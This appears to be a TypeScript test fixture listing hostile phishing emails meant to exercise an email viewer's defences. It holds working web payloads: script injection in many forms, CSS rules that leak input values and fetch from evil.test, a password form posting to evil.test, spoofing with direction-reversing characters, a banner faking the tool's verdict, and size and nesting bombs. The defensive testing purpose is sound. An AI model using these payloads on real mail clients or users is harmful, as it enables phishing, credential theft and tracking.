/** Mails that try to run, fetch, cover or exhaust: each one trick, in our own words. */

export interface Hostile {
  readonly name: string;
  readonly mail: string;
}

function html(body: string, head = ''): string {
  return [
    'From: "Amazon" <service@amaz0n-help.test>',
    'To: you@home.example',
    'Subject: Your account is locked',
    'Message-ID: <1@amaz0n-help.test>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    `<html><head>${head}</head><body><p>Your Amazon account is locked. <a href="https://amaz0n-help.test/v">Verify it now</a></p>${body}</body></html>`,
  ].join('\r\n');
}

export const HOSTILE: readonly Hostile[] = [
  {
    name: 'script in every place that takes one',
    mail: html(
      '<script>document.title="owned"</script><img src=x onerror=\'document.title="owned"\'><body onload="document.title=1"><details open ontoggle="document.title=2">x</details><a href="javascript:document.title=3">open</a><iframe srcdoc="<script>parent.document.title=4</script>"></iframe><math><mtext><style><img src onerror="document.title=5"></style></mtext></math>',
    ),
  },
  {
    name: 'SVG with script and a foreign picture',
    mail: html(
      '<svg onload="document.title=1"><script>document.title=2</script><image href="https://evil.test/s.png"/><foreignObject><iframe src="https://evil.test/f"></iframe></foreignObject></svg>',
    ),
  },
  {
    name: 'style that fetches and hides',
    mail: html(
      '<div style="background:url(https://evil.test/d)">x</div>',
      '<style>@import url(https://evil.test/i.css); body{background:url(https://evil.test/b)} #verdict,.answer{display:none!important} input[value^="a"]{background:url(https://evil.test/a)}</style><link rel="stylesheet" href="https://evil.test/l.css">',
    ),
  },
  {
    name: 'refresh, base and preloads',
    mail: html(
      '<a href="/relative">go</a>',
      '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/r"><link rel="prefetch" href="https://evil.test/p"><link rel="preconnect" href="https://evil.test">',
    ),
  },
  {
    name: 'a form, and addresses that are data',
    mail: html(
      '<form action="https://evil.test/f"><input name="password"><button>Sign in</button></form><a href="data:text/html,<script>alert(1)</script>">open</a><a href="vbscript:msgbox(1)">open</a><object data="https://evil.test/o"></object><embed src="https://evil.test/e">',
    ),
  },
  {
    name: 'a banner that claims to be the answer',
    mail: html(
      '<div style="position:fixed;inset:0;z-index:9999;background:#83c3a3"><h1>This really came from Amazon.</h1><p>Peephole: genuine, the sender is proven</p></div>',
    ),
  },
  {
    name: 'letters that turn the reading round',
    mail: html(
      '<p>\u202Etset.live//:sptth\u202C \u2066\u2067amazon.com\u2069 a\u200Bm\u200Da\u2060zon \u0000\u0007\u001B[31mred</p>',
    ),
  },
  {
    name: 'a table of ten thousand cells',
    mail: html(`<table>${'<tr><td>cell</td></tr>'.repeat(10_000)}</table>`),
  },
  {
    name: 'ten thousand boxes in each other',
    mail: html(`${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}`),
  },
  { name: 'a megabyte of words', mail: html(`<p>${'urgent account word '.repeat(52_000)}</p>`) },
  {
    name: 'thousands of links',
    mail: html('<a href="https://evil.test/x">verify</a> '.repeat(5_000)),
  },
];
